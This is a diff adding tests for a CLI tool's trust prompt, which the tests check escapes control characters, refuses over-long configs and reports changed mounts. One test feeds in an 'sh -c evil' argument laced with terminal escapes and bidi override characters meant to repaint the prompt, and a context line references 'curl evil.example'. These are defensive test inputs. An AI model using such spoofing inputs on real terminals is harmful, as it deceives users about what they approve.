@@ -122,6 +122,69 @@ describe("the trust prompt", () => {
     expect(out.indexOf("NOTE")).toBeGreaterThan(out.indexOf("curl evil.example"));
     expect(out).toContain("x".repeat(500));
   });
+
+  it("could be painted over by what it showed", async () => {
+    const args = ["-c", `evil\r\u001b[1A${" ".repeat(50)}\u202e\u2066\u3164end`];
+    config(JSON.stringify({ mounts: { p: { source: "mcp", command: "sh\u009b8m", args } } }));
+    const { out } = await pressmark("trust");
+    expect(out).not.toMatch(/[^\P{C}\n]|[\p{Bidi_Control}\u3164]/u);
+    expect(out).toContain(String.raw`command: "sh\u009b8m"`);
+    expect(out).toContain(
+      String.raw`args: ["-c","evil\r\u001b[1A${String.raw`\u0020`.repeat(50)}\u202e\u2066\u3164end"]`,
+    );
+  });
+
+  it("refuses what is too long to be shown, says to name the config, and grants the rest", async () => {
+    const file = config(
+      withDocs(
+        `long: { source: mcp, command: sh, env: { NOTE: "${"x".repeat(4000)}" } }\n  h: { source: file, root: more, hidden: true }`,
+      ),
+    );
+    const { code, out, err } = await pressmark("trust", "--yes");
+    expect([code, err]).toEqual([0, ""]);
+    expect(out).toMatch(
+      /refused {2}mounts\.long\n {11}! it is too long to be shown \(\d+ characters, of at most 4000\), so it cannot be trusted; name the config with --config\n/,
+    );
+    const listed = await pressmark("ls", "--all");
+    expect(listed.out).toContain(".hidden.md");
+    expect(listed.err).toContain("it is too long to be shown");
+    expect(listed.err).toContain("name the config with --config");
+    expect(await pressmark("trust")).toMatchObject({ code: 3, err: expect.stringContaining("with --config") });
+    expect((await pressmark("config", file)).err).toBe("");
+    config(
+      withDocs(
+        Array.from({ length: 30 }, (_, index) => `m${index}: { source: mcp, command: ${"x".repeat(900)} }`).join(
+          "\n  ",
+        ),
+      ),
+    );
+    expect(await pressmark("trust", "--yes")).toMatchObject({
+      code: 3,
+      out: "",
+      err: expect.stringMatching(/asks for too much to be shown .*; name it with --config/),
+    });
+  });
+
+  it("says what is new, what is trusted and what has changed since", async () => {
+    config(
+      withDocs(
+        "a: { source: file, root: more, hidden: true }\n  b: { source: file, root: more, ignore: false, scheme: b }",
+      ),
+    );
+    await trust();
+    config(
+      withDocs(
+        "a: { source: file, root: more, hidden: true }\n  b: { source: file, root: ., ignore: false, scheme: b }\n  c: { source: data }\n  d: { source: web, hosts: [x] }",
+      ),
+    );
+    const { out } = await pressmark("trust");
+    expect(out.split("\n").filter((line) => /^ {2}\w/.test(line))).toEqual([
+      "  trusted  mounts.a",
+      "  changed  mounts.b",
+      "  new      mounts.d",
+    ]);
+    expect(out).toContain("           ! mounts.b changed since it was trusted: root\n");
+  });
 });
 
 describe("a grant", () => {
